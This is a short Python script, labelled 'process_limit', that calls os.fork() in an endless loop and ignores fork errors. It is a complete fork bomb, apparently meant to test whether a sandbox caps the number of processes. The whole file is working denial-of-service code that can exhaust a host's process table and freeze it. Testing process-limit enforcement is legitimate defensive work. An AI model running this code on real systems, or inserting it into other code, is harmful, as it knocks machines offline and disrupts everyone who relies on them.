"""process_limit: forks as fast as it can."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
